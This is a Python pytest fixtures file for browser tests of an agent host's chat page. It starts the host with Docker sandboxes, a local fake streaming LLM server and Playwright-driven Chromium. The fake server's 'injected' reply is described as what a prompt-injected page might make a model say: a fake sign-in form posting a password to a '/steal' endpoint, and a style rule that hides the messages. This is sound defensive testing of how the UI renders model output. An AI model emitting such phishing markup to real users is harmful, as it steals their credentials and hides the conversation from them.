"""Fixtures for the chat page's tests: a real host (the `agenthost` binary,
real Docker sandboxes, SQLite), a local Anthropic-format LLM server for the
streamed-reply test, and headless Chromium from Debian driven by Playwright.
Every test saves a screenshot of the page under the test output directory."""

import json
import os
import re
import shutil
import subprocess
import tempfile
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import sync_playwright

ROOT = Path(__file__).resolve().parents[2]
TARGET = Path(os.environ.get("CARGO_TARGET_DIR", ROOT / "target"))
BIN = Path(os.environ.get("AGENTHOST_BIN", TARGET / "debug" / "agenthost"))
DIST = Path(os.environ.get("AGENTHOST_PLUGINS_DIR", ROOT / "dist" / "plugins"))
OUTPUT = Path(os.environ.get("AGENTHOST_UI_OUTPUT", TARGET / "ui-test-output"))
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"


class StreamingClaude(BaseHTTPRequestHandler):
    """Answers every Messages API call with one text reply, streamed in pieces."""

    pieces = ["Hello ", "from ", "a streamed ", "reply."]
    # What a prompt-injected page might make a model say: a fake sign-in
    # form and a style that hides the page.
    injected = [
        "Please sign in again:\n\n",
        '<form action="http://127.0.0.1:9/steal" method="post"><input name="password" type="password">',
        '<button type="submit">Sign in</button></form><style>#messages{display:none}</style>',
        '<p style="color:red" class="toast">styled</p>',
    ]

    def do_POST(self):  # noqa: N802 (the stdlib's name)
        request = self.rfile.read(int(self.headers.get("content-length", 0)))
        pieces = self.injected if b"inject a form" in request else self.pieces
        events = [
            ("message_start", {"type": "message_start", "message": {"usage": {"input_tokens": 10, "output_tokens": 1}}}),
            ("content_block_start", {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}}),
        ]
        events += [
            ("content_block_delta", {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": p}})
            for p in pieces
        ]
        events += [
            ("content_block_stop", {"type": "content_block_stop", "index": 0}),
            ("message_delta", {"type": "message_delta", "delta": {"stop_reason": "end_turn"}, "usage": {"output_tokens": 7}}),
            ("message_stop", {"type": "message_stop"}),
        ]
        body = "".join(f"event: {name}\ndata: {json.dumps(data)}\n\n" for name, data in events).encode()
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


class Host:
    def __init__(self, process, url, token, data_dir):
        self.process, self.url, self.token, self.data_dir = process, url, token, data_dir


def run(data_dir, *args):
    out = subprocess.run([str(BIN), "--data-dir", str(data_dir), *args], capture_output=True, text=True)
    assert out.returncode == 0, out.stderr
    return out.stdout


@pytest.fixture(scope="session")
def llm():
    server = ThreadingHTTPServer(("127.0.0.1", 0), StreamingClaude)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


# The operator asks before `echo ask-*` commands (the approval tests).
APPROVAL_CONFIG = """
[approval]
bash = ['^echo ask-']
timeout_secs = {timeout}
"""


def start_host(llm, owner, timeout_secs):
    assert BIN.is_file(), f"{BIN} is missing: run `cargo build -p agenthost` (scripts/test.sh does)"
    data_dir = Path(tempfile.mkdtemp(prefix="agenthost-ui-"))
    (data_dir / "config.toml").write_text(APPROVAL_CONFIG.format(timeout=timeout_secs))
    run(data_dir, "plugin", "install", str(DIST / "computer.wasm"), "--grant", "computer")
    run(data_dir, "plugin", "install", str(DIST / "bash.wasm"), "--grant", "shell")
    run(data_dir, "plugin", "install", str(DIST / "scripted-policy.wasm"))
    run(data_dir, "plugin", "install", str(DIST / "anthropic-policy.wasm"), "--grant", "llm")
    token = run(data_dir, "token", "create", "--user", "ui-tester").strip()
    env = dict(os.environ, ANTHROPIC_API_KEY="sk-ui-test", ANTHROPIC_BASE_URL=llm)
    process = subprocess.Popen(
        [
            str(BIN), "--data-dir", str(data_dir), "serve",
            "--listen", "127.0.0.1:0",
            "--web-dir", str(ROOT / "web" / "dist"),
            "--sandbox-owner", owner,
            "--default-policy", "scripted-policy",
        ],
        stdout=subprocess.PIPE,
        text=True,
        env=env,
    )
    line = process.stdout.readline()
    match = re.search(r"http://(\S+)", line)
    assert match, f"the host did not start: {line!r}"
    return Host(process, f"http://{match.group(1)}", token, data_dir)


def stop_host(host):
    host.process.terminate()
    host.process.wait(timeout=30)
    shutil.rmtree(host.data_dir, ignore_errors=True)


@pytest.fixture(scope="session")
def host(llm):
    host = start_host(llm, "ui-test", timeout_secs=600)
    yield host
    stop_host(host)


@pytest.fixture(scope="session")
def hasty_host(llm):
    """A host whose approval requests time out after a few seconds."""
    host = start_host(llm, "ui-test-hasty", timeout_secs=4)
    yield host
    stop_host(host)


@pytest.fixture(scope="session")
def browser():
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield browser
        browser.close()


def open_page(browser, host, request):
    """A signed-in page on `host`; yields it, then saves a screenshot and
    fails the test on any JavaScript error."""
    context = browser.new_context(viewport={"width": 1440, "height": 900})
    page = context.new_page()
    errors = []
    page.on("pageerror", lambda e: errors.append(str(e)))
    # Docker adding a sandbox's network interface makes Chromium abort
    # in-flight loads (ERR_NETWORK_CHANGED); the page retries its own
    # loads, the test retries the navigation.
    for attempt in range(5):
        try:
            page.goto(host.url)
            page.wait_for_selector("#token-input:visible", timeout=15_000)
            break
        except Exception:
            if attempt == 4:
                raise
    page.fill("#token-input", host.token)
    page.press("#token-input", "Enter")
    page.wait_for_selector("#app:not([hidden])")
    page.wait_for_function("() => window.agenthost && window.agenthost.ready")
    yield page
    OUTPUT.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(OUTPUT / f"{request.node.name}.png"), full_page=True)
    context.close()
    assert not errors, f"JavaScript errors on the page: {errors}"


@pytest.fixture
def page(browser, host, request):
    yield from open_page(browser, host, request)


@pytest.fixture
def hasty_page(browser, hasty_host, request):
    yield from open_page(browser, hasty_host, request)
